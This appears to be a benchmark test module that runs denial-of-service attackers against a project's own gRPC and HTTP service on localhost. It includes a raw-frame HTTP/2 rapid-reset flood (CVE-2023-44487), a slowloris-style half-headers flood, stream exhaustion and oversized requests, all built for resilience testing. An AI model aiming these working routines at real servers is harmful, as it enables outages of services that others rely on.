"""The attackers of `tests.bench.attacks`, each a process: `python -m tests.bench.attackers NAME GRPC HTTP SECONDS`.

They are niced: a real attacker computes on a machine of its own.
"""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from typing import Any, Final, cast

import grpc

from broadcast.v1 import broadcast_service_pb2 as rpc

_FRAME_HEADERS, _FRAME_DATA, _FRAME_RESET, _FRAME_SETTINGS = 1, 0, 3, 4
_RESETS: Final = 20_000
_PREFIX: Final = "/broadcast.v1.BroadcastService/"


def _frame(type_: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([type_, flags]) + struct.pack(">I", stream) + payload


def _header(name: bytes, value: bytes) -> bytes:
    """HPACK, a literal without indexing."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def rapid_reset(grpc_port: int, _http_port: int, until: float) -> None:
    """Calls that are opened and reset at once, on one connection (CVE-2023-44487)."""
    headers = b"".join(
        _header(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", f"{_PREFIX}GetBroadcast".encode()),
            (b":authority", b"x"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
        )
    )
    cancel = struct.pack(">I", 8)
    sent = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_FRAME_SETTINGS, 0, 0, b"")
    sent += b"".join(
        _frame(_FRAME_HEADERS, 4, stream, headers) + _frame(_FRAME_RESET, 0, stream, cancel)
        for stream in range(1, 2 * _RESETS, 2)
    )
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", grpc_port)) as connection:
            connection.settimeout(5)
            connection.sendall(sent)


def open_streams(grpc_port: int, _http_port: int, until: float) -> None:
    """As many watches as one peer is given, on eight connections."""
    with contextlib.ExitStack() as opened:
        for _ in range(8):
            channel = opened.enter_context(_channel(grpc_port))
            watch = cast("Any", channel).unary_stream(f"{_PREFIX}WatchBroadcasts")
            for _ in range(240):
                watch(b"")
        time.sleep(max(until - time.monotonic(), 0))


def half_headers(_grpc_port: int, http_port: int, until: float) -> None:
    """Connections that never finish their headers."""
    open_: list[socket.socket] = []
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", http_port), timeout=1)
            connection.sendall(b"POST /webhooks/mux HTTP/1.1\r\nHost: x\r\nX-")
            open_.append(connection)
        if len(open_) > 900:
            open_.pop(0).close()


def many_destinations(grpc_port: int, _http_port: int, until: float) -> None:
    """20 kB that name 10,000 destinations."""
    request = rpc.CreateBroadcastRequest()
    for _ in range(10_000):
        request.spec.destinations.add()
    _call(grpc_port, "CreateBroadcast", request.SerializeToString(), until, width=4)


def largest_requests(grpc_port: int, _http_port: int, until: float) -> None:
    """4 MiB of two-byte messages, over eight connections."""
    request = b"\x1a\xfa\xff\xff\x01" + b"\x2a\x00" * ((4 * 1024 * 1024 - 1024) // 2)
    _call(grpc_port, "CreateBroadcast", request[: 4 * 1024 * 1024 - 64], until, width=8)


def _channel(port: int) -> grpc.Channel:
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", 8 << 20)]
    return grpc.insecure_channel(f"127.0.0.1:{port}", options=options)


def _call(port: int, method: str, request: bytes, until: float, *, width: int) -> None:
    def again_and_again() -> None:
        with _channel(port) as channel:
            call = cast("Any", channel).unary_unary(_PREFIX + method)
            while time.monotonic() < until:
                with contextlib.suppress(grpc.RpcError):
                    call(request, timeout=10)

    threads = [threading.Thread(target=again_and_again) for _ in range(width)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


ATTACKS: Final[dict[str, Callable[[int, int, float], None]]] = {
    "rapid reset": rapid_reset,
    "1,920 open streams": open_streams,
    "half-sent headers": half_headers,
    "20 kB, 10,000 destinations": many_destinations,
    "4 MiB requests, 8 at once": largest_requests,
}

if __name__ == "__main__":
    os.nice(10)
    ATTACKS[sys.argv[1]](int(sys.argv[2]), int(sys.argv[3]), time.monotonic() + float(sys.argv[4]))
